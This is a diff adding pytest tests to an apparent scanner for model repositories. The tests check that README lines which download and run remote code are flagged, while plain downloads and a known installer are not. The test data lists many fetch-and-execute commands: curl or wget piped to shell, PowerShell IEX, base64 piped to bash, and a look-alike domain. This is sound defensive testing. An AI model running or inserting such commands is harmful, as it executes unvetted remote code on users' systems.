@@ -132,3 +132,45 @@ def test_activation_functions_of_torch_are_no_code(tmp_path):
     write_json(tmp_path / "config.json", {"activation_function": "torch.nn.modules.activation.Tanh"})
     write_json(tmp_path / "other.json", {"activation_function": "gelu_new", "type": "my--own thing"})
     assert [*RemoteCode().run(Case(take(tmp_path)))] == []
+
+
+FETCHED = {
+    "piped": "curl -fsSL https://example.com/i.sh | bash",
+    "with rights": "wget -qO- https://example.com/i \\\n  | sudo -E sh",
+    "substituted": "bash <(curl -s https://example.com/i)",
+    "in a string": 'sh -c "$(curl -fsSL example.com/i)"',
+    "evaluated": "eval `curl https://example.com/i`",
+    "PowerShell": "iwr -useb https://example.com/i.ps1 | iex",
+    "PowerShell, turned round": "IEX (New-Object Net.WebClient).DownloadString('https://example.com/i')",
+    "encoded": "echo aGk= | base64 -d | bash",
+    "Python": "curl https://example.com/i.py | python3",
+    "beside a known one": "curl https://ollama.com/install.sh https://example.com/x | sh",
+    "a look-alike": "curl https://ollama.com.example.com/install.sh | sh",
+}
+
+
+@pytest.mark.parametrize("name", FETCHED)
+def test_a_text_that_runs_what_it_fetches(name, model):
+    (model / "README.md").write_text(f"# Tiny\n\n{FETCHED[name]}\n")
+    (finding,) = findings(model)
+    assert (finding.reason, finding.severity) == ("runs-what-it-fetches", Severity.HOLD)
+    assert finding.where == "README.md:3"
+
+
+def test_a_known_installer_is_a_note(model):
+    (model / "README.md").write_text("curl -fsSL https://ollama.com/install.sh | sh\n")
+    assert [(f.reason, f.outcome) for f in findings(model)] == [("known-installer", Outcome.PASS)]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -L -o tiny.gguf https://example.com/tiny.gguf",
+        "curl http://localhost:8000/v1/models | python -m json.tool",
+        "curl https://example.com/a | jq . | sha256sum",
+        "curl https://example.com/a > a.sh",
+    ],
+)
+def test_fetching_alone_runs_nothing(line, model):
+    (model / "README.md").write_text(line)
+    assert findings(model) == ()
